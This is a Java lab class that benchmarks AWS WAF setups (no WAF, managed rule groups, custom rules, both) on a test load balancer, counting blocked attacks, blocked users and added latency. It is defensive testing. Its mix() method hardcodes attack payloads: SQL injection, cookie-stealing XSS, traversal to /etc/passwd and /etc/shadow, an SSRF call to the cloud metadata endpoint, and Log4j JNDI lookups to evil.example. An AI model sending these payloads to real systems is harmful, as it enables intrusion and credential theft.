package dev.haneul.lab;

import dev.haneul.lab.report.Chart;
import dev.haneul.lab.report.Table;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import software.amazon.awssdk.core.SdkBytes;
import software.amazon.awssdk.services.elasticloadbalancingv2.model.LoadBalancer;
import software.amazon.awssdk.services.wafv2.model.Rule;
import software.amazon.awssdk.services.wafv2.model.Scope;
import software.amazon.awssdk.services.wafv2.model.VisibilityConfig;

/**
 * Managed rules or custom rules? One ALB in front of the session app, hit by logged-in users and
 * by attacks of several classes, four ways: no WAF, the AWS managed rule groups (Common, SQLi,
 * KnownBadInputs), the custom rules a team writes (an admin path rule, a body size rule, a rate
 * limit per client address), and both. It counts, per class, the attacks the WAF blocked, the
 * legitimate requests it blocked, and the latency it added to the legitimate ones.
 *
 * <p>Requests are written by hand on a socket (so a request can lack a User-Agent, or carry a
 * path no HTTP client would send); each simulated client has its own address in
 * {@code X-Forwarded-For}, which the rate-based rule aggregates on.
 */
public final class WafLab implements Lab {

    static final String PREFIX = "lab-waf";
    private static final List<String> CONFIGS = List.of("no WAF", "managed rules", "custom rules", "both");
    private static final String BROWSER = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36";

    /**
     * @param legitimateRequests legitimate requests per configuration
     * @param attackRequests attack requests per configuration (flood included)
     * @param attacksBlockedPct per configuration, the share of attacks blocked (%), each attack class weighing the same
     * @param legitimateBlocked per configuration, the legitimate requests blocked
     * @param p50Ms per configuration, the median latency of legitimate requests (ms)
     * @param p99Ms per configuration, the 99th percentile latency of legitimate requests (ms)
     */
    public record Verdict(int legitimateRequests, int attackRequests, Map<String, Double> attacksBlockedPct,
                          Map<String, Integer> legitimateBlocked, Map<String, Double> p50Ms, Map<String, Double> p99Ms) {}

    /** One request of the mix: its class ({@code legitimate} or an attack class), and its bytes but for the address. */
    record Probe(String kind, String method, String target, List<String> headers, String body) {
        boolean attack() {
            return !kind.equals("legitimate");
        }
    }

    @Override
    public String name() {
        return "waf";
    }

    @Override
    public String question() {
        return "Are AWS managed rules enough, or are custom rules needed? Attacks blocked, users blocked and latency "
                + "added, with no WAF, managed rules, custom rules and both";
    }

    @Override
    public LabResult run(LabContext context) throws Exception {
        int users = context.pick(40, 12);
        int floodRequests = context.pick(60, 30);
        List<AppFleet.Instance> apps = AppFleet.start(context, List.of(PREFIX + "-app-1", PREFIX + "-app-2"), "memory", null, 0);
        LoadBalancer alb = LoadBalancers.application(context, PREFIX);
        LoadBalancers.Entry entry = LoadBalancers.forward(context, alb, 8080, PREFIX + "-tg", apps, null);

        Map<String, String> acls = new LinkedHashMap<>();
        acls.put("managed rules", webAcl(context, PREFIX + "-managed", managedRules(0)));
        acls.put("custom rules", webAcl(context, PREFIX + "-custom", customRules(0)));
        List<Rule> both = new ArrayList<>(managedRules(0));
        both.addAll(customRules(both.size()));
        acls.put("both", webAcl(context, PREFIX + "-both", both));

        List<Probe> probes = mix(users, floodRequests);
        Map<String, Map<String, int[]>> blocked = new LinkedHashMap<>(); // config → kind → {blocked, total}
        Map<String, List<Double>> latencies = new LinkedHashMap<>();
        for (String config : CONFIGS) {
            String acl = acls.get(config);
            if (acl == null) {
                context.wafv2().disassociateWebACL(r -> r.resourceArn(alb.loadBalancerArn()));
            } else {
                context.wafv2().associateWebACL(r -> r.webACLArn(acl).resourceArn(alb.loadBalancerArn()));
            }
            // A few unmeasured requests first (from addresses of their own, so the rate limit does not count them).
            for (int i = 0; i < 20; i++) {
                send(entry.host(), entry.port(), probes.get(i % 7), "192.0.2." + (i + 1));
            }
            context.log("%s: %d requests", config, probes.size());
            Map<String, int[]> counts = new LinkedHashMap<>();
            List<Double> times = new ArrayList<>();
            int client = 0;
            for (Probe probe : probes) {
                long start = System.nanoTime();
                int status = send(entry.host(), entry.port(), probe, clientAddress(probe, client++));
                double ms = (System.nanoTime() - start) / 1e6;
                boolean byWaf = status == 403 || status == 429;
                int[] c = counts.computeIfAbsent(probe.kind(), k -> new int[2]);
                c[0] += byWaf ? 1 : 0;
                c[1]++;
                if (!probe.attack()) {
                    times.add(ms);
                }
            }
            blocked.put(config, counts);
            latencies.put(config, times);
        }
        context.wafv2().disassociateWebACL(r -> r.resourceArn(alb.loadBalancerArn()));
        return result(probes, blocked, latencies, users, floodRequests);
    }

    // ---------------------------------------------------------------- the rules

    private static String webAcl(LabContext context, String name, List<Rule> rules) {
        return context.wafv2().createWebACL(r -> r.name(name).scope(Scope.REGIONAL).defaultAction(d -> d.allow(a -> { }))
                .rules(rules).visibilityConfig(visibility(name))).summary().arn();
    }

    private static VisibilityConfig visibility(String metric) {
        return VisibilityConfig.builder().sampledRequestsEnabled(true).cloudWatchMetricsEnabled(true).metricName(metric).build();
    }

    private static List<Rule> managedRules(int firstPriority) {
        List<Rule> rules = new ArrayList<>();
        int priority = firstPriority;
        for (String group : List.of("AWSManagedRulesCommonRuleSet", "AWSManagedRulesSQLiRuleSet",
                "AWSManagedRulesKnownBadInputsRuleSet")) {
            int p = priority++;
            rules.add(Rule.builder().name(group).priority(p).overrideAction(o -> o.none(n -> { }))
                    .statement(s -> s.managedRuleGroupStatement(m -> m.vendorName("AWS").name(group)))
                    .visibilityConfig(visibility(group)).build());
        }
        return rules;
    }

    /** What a team writes: no admin pages from outside, no big bodies, at most 10 requests a minute per client. */
    private static List<Rule> customRules(int firstPriority) {
        return List.of(
                Rule.builder().name("block-admin").priority(firstPriority).action(a -> a.block(b -> { }))
                        .statement(s -> s.byteMatchStatement(b -> b.fieldToMatch(f -> f.uriPath(u -> { }))
                                .positionalConstraint("STARTS_WITH")
                                .searchString(SdkBytes.fromUtf8String("/admin"))
                                .textTransformations(t -> t.priority(0).type("URL_DECODE"),
                                        t -> t.priority(1).type("LOWERCASE"))))
                        .visibilityConfig(visibility("block-admin")).build(),
                Rule.builder().name("body-size").priority(firstPriority + 1).action(a -> a.block(b -> { }))
                        .statement(s -> s.sizeConstraintStatement(c -> c.fieldToMatch(f -> f.body(b -> b
                                .oversizeHandling("MATCH"))).comparisonOperator("GT").size(4096L)
                                .textTransformations(t -> t.priority(0).type("NONE"))))
                        .visibilityConfig(visibility("body-size")).build(),
                Rule.builder().name("rate-limit").priority(firstPriority + 2)
                        .action(a -> a.block(b -> b.customResponse(c -> c.responseCode(429))))
                        .statement(s -> s.rateBasedStatement(r -> r.limit(10L).evaluationWindowSec(60L)
                                .aggregateKeyType("FORWARDED_IP")
                                .forwardedIPConfig(f -> f.headerName("X-Forwarded-For").fallbackBehavior("MATCH"))))
                        .visibilityConfig(visibility("rate-limit")).build());
    }

    // ---------------------------------------------------------------- the traffic

    /** Legitimate users (a few requests each, from their own address), one of each attack, then a flood from one address. */
    static List<Probe> mix(int users, int flood) {
        List<Probe> probes = new ArrayList<>();
        String form = "application/x-www-form-urlencoded";
        for (int u = 0; u < users; u++) {
            String name = List.of("alice", "bob", "carol").get(u % 3);
            probes.add(get("legitimate", "/"));
            probes.add(post("legitimate", "/login", form, "username=" + name + "&password=" + name));
            probes.add(get("legitimate", "/api/me"));
            probes.add(get("legitimate", "/search?q=O%27Reilly%27s+guide+to+SQL"));
            probes.add(post("legitimate", "/api/notes", "application/json",
                    "{\"title\":\"Don't forget\",\"body\":\"Meet at 5 o'clock; select a room, then union the lists\"}"));
            probes.add(get("legitimate", "/products?category=books&sort=price-asc&page=" + (u % 5 + 1)));
            probes.add(post("legitimate", "/upload", "multipart/form-data; boundary=XyZ",
                    "--XyZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"notes.txt\"\r\n"
                            + "Content-Type: text/plain\r\n\r\nshopping: milk, eggs & bread\r\n--XyZ--\r\n"));
        }
        probes.add(get("SQL injection", "/?id=1%27%20OR%201=1--"));
        probes.add(get("SQL injection", "/products?id=1%20UNION%20SELECT%20username,password%20FROM%20users--"));
        probes.add(post("SQL injection", "/login", form, "username=admin%27--&password=x"));
        probes.add(get("SQL injection", "/search?q=1%3BDROP%20TABLE%20users"));
        probes.add(get("XSS", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E"));
        probes.add(get("XSS", "/search?q=%3Cimg%20src=x%20onerror=alert(1)%3E"));
        probes.add(post("XSS", "/api/comments", form, "comment=%3Csvg%20onload%3Dalert(document.cookie)%3E"));
        probes.add(get("path traversal", "/download?file=../../../../etc/passwd"));
        probes.add(get("path traversal", "/static/..%2f..%2f..%2fetc%2fshadow"));
        probes.add(get("SSRF", "/fetch?url=http://169.254.169.254/latest/meta-data/iam/"));
        probes.add(new Probe("Log4j", "GET", "/", List.of("User-Agent", BROWSER, "X-Api-Version",
                "${jndi:ldap://evil.example/a}"), ""));
        probes.add(get("Log4j", "/search?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fx%7D"));
        probes.add(new Probe("bad bot", "GET", "/", List.of(), ""));
        probes.add(new Probe("bad bot", "GET", "/", List.of("User-Agent", "Nessus SOAP"), ""));
        probes.add(get("admin pages", "/admin/users"));
        probes.add(get("admin pages", "/Admin%2Fconfig"));
        probes.add(post("oversized body", "/api/notes", "application/json",
                "{\"note\":\"" + "a".repeat(12_000) + "\"}"));
        for (int i = 0; i < flood; i++) {
            probes.add(get("flood", "/api/me"));
        }
        return probes;
    }

    private static Probe get(String kind, String target) {
        return new Probe(kind, "GET", target, List.of("User-Agent", BROWSER, "Accept", "text/html,application/json"), "");
    }

    private static Probe post(String kind, String target, String type, String body) {
        return new Probe(kind, "POST", target, List.of("User-Agent", BROWSER, "Content-Type", type), body);
    }

    /** Each legitimate user and each attack comes from its own address; the flood from one. */
    private static String clientAddress(Probe probe, int index) {
        int n = probe.kind().equals("legitimate") ? index / 7 : probe.kind().equals("flood") ? 250 : 200 + index % 40;
        return "203.0." + (113 + n / 250) + "." + (n % 250 + 1);
    }

    /** Sends one request on its own connection; answers the status (0 when there was none). */
    static int send(String host, int port, Probe probe, String clientAddress) throws IOException {
        StringBuilder head = new StringBuilder(probe.method()).append(' ').append(probe.target()).append(" HTTP/1.1\r\n")
                .append("Host: ").append(host).append(':').append(port).append("\r\n")
                .append("X-Forwarded-For: ").append(clientAddress).append("\r\n");
        for (int i = 0; i < probe.headers().size(); i += 2) {
            head.append(probe.headers().get(i)).append(": ").append(probe.headers().get(i + 1)).append("\r\n");
        }
        byte[] body = probe.body().getBytes(StandardCharsets.UTF_8);
        if (!probe.method().equals("GET")) {
            head.append("Content-Length: ").append(body.length).append("\r\n");
        }
        head.append("Connection: close\r\n\r\n");
        try (Socket socket = new Socket(host, port)) {
            socket.setSoTimeout(10_000);
            OutputStream out = socket.getOutputStream();
            out.write(head.toString().getBytes(StandardCharsets.ISO_8859_1));
            out.write(body);
            out.flush();
            InputStream in = socket.getInputStream();
            byte[] line = new byte[12];
            int read = in.readNBytes(line, 0, line.length);
            in.transferTo(OutputStream.nullOutputStream());
            String status = new String(line, 0, read, StandardCharsets.ISO_8859_1);
            return status.startsWith("HTTP/1.") && read >= 12 ? Integer.parseInt(status.substring(9, 12)) : 0;
        } catch (IOException e) {
            return 0;
        }
    }

    // ---------------------------------------------------------------- the report

    // Every map here holds an entry for each configuration and probe kind, filled by run() before this.
    @SuppressWarnings("NullAway")
    private static LabResult result(List<Probe> probes, Map<String, Map<String, int[]>> blocked,
                                    Map<String, List<Double>> latencies, int users, int flood) {
        List<String> kinds = probes.stream().map(Probe::kind).distinct().toList();
        Table.Builder table = Table.builder("Requests blocked by the WAF (403, or the rate limit's 429)", "class",
                CONFIGS.get(0), CONFIGS.get(1), CONFIGS.get(2), CONFIGS.get(3));
        for (String kind : kinds) {
            List<Object> row = new ArrayList<>(List.of(kind));
            for (String config : CONFIGS) {
                int[] c = blocked.get(config).get(kind);
                row.add(c[0] + " / " + c[1]);
            }
            table.row(row.toArray());
        }
        Map<String, Double> attacksPct = new LinkedHashMap<>();
        Map<String, Integer> legitBlocked = new LinkedHashMap<>();
        Map<String, Double> p50 = new LinkedHashMap<>();
        Map<String, Double> p99 = new LinkedHashMap<>();
        int attackTotal = 0;
        Table.Builder latency = Table.builder("Latency of legitimate requests (one connection each)", "configuration",
                "p50 ms", "p99 ms", "added p50 ms");
        for (String config : CONFIGS) {
            // Each attack class weighs the same, whatever its number of requests (the flood has many).
            double sum = 0;
            int classes = 0;
            int total = 0;
            for (Map.Entry<String, int[]> e : blocked.get(config).entrySet()) {
                if (!e.getKey().equals("legitimate")) {
                    sum += StickyVsStoreLab.share(e.getValue()[0], e.getValue()[1]);
                    classes++;
                    total += e.getValue()[1];
                }
            }
            attackTotal = total;
            attacksPct.put(config, classes == 0 ? 0 : Math.round(10 * sum / classes) / 10.0);
            legitBlocked.put(config, blocked.get(config).get("legitimate")[0]);
            p50.put(config, percentile(latencies.get(config), 50));
            p99.put(config, percentile(latencies.get(config), 99));
            latency.row(config, fmt(p50.get(config)), fmt(p99.get(config)), fmt(p50.get(config) - p50.get(CONFIGS.get(0))));
        }
        int legitimate = blocked.get(CONFIGS.get(0)).get("legitimate")[1];
        Verdict verdict = new Verdict(legitimate, attackTotal, attacksPct, legitBlocked, p50, p99);
        List<Chart.BarSeries> series = new ArrayList<>();
        for (String config : CONFIGS) {
            List<Double> values = new ArrayList<>();
            for (String kind : kinds) {
                int[] c = blocked.get(config).get(kind);
                values.add(StickyVsStoreLab.share(c[0], c[1]));
            }
            series.add(new Chart.BarSeries(config, values));
        }
        List<String> conclusions = new ArrayList<>();
        for (String config : CONFIGS.subList(1, CONFIGS.size())) {
            conclusions.add(String.format(Locale.ROOT, "%s: %.0f%% of the attacks blocked (mean over the classes), %d of %d legitimate requests "
                    + "blocked, %s ms added to the median legitimate request.", capitalise(config), attacksPct.get(config),
                    legitBlocked.get(config), legitimate, fmt(p50.get(config) - p50.get(CONFIGS.get(0)))));
        }
        conclusions.add("Managed rules catch what is generic (injection, XSS, traversal, Log4j, bad bots, big bodies); "
                + "what is specific to the application (its admin paths, its request rates) needs rules of its own.");
        return new LabResult(verdict, conclusions, List.of(table.build(), latency.build()), List.of(
                new Chart.Bar("Requests blocked by class", "% blocked", kinds, series),
                new Chart.Bar("Latency of legitimate requests", "ms", List.of("p50", "p99"), CONFIGS.stream()
                        .map(c -> new Chart.BarSeries(c, List.of(p50.get(c), p99.get(c)))).toList())),
                List.of(String.format(Locale.ROOT, "%d users, 7 requests each (home page, login, session, a search with "
                                + "apostrophes, a JSON note, a product list, a small upload), then %d attacks of %d classes "
                                + "and a flood of %d requests from one address, sent one after the other, each on a new "
                                + "connection, to the same ALB for each configuration.", users,
                                probes.stream().filter(p -> p.attack() && !p.kind().equals("flood")).count(),
                                kinds.size() - 2, flood),
                        "Latencies are of single requests on a shared two-core machine, after 20 unmeasured requests; "
                                + "the bench script bench/alb-waf.sh measures throughput and p99 under load.",
                        "Every client has its own address in X-Forwarded-For (all connect from 127.0.0.1); the rate "
                                + "limit (10 requests a minute) aggregates on it.",
                        "Managed rules: AWSManagedRulesCommonRuleSet, AWSManagedRulesSQLiRuleSet, "
                                + "AWSManagedRulesKnownBadInputsRuleSet. Custom rules: /admin blocked, bodies over 4 KB "
                                + "blocked, 10 requests a minute per client (429 above).",
                        "The app is the labs' session app (memory sessions), not the board: the board needs Aurora and "
                                + "ElastiCache, several minutes on two cores, and the WAF judges requests before the app "
                                + "sees them, so what it blocks does not depend on the app."));
    }

    private static double percentile(List<Double> values, int p) {
        if (values.isEmpty()) {
            return 0;
        }
        List<Double> sorted = values.stream().sorted().toList();
        return sorted.get(Math.min(sorted.size() - 1, (int) Math.ceil(p / 100.0 * sorted.size()) - 1));
    }

    private static String fmt(double ms) {
        return String.format(Locale.ROOT, "%.2f", ms);
    }

    private static String capitalise(String text) {
        return Character.toUpperCase(text.charAt(0)) + text.substring(1);
    }
}
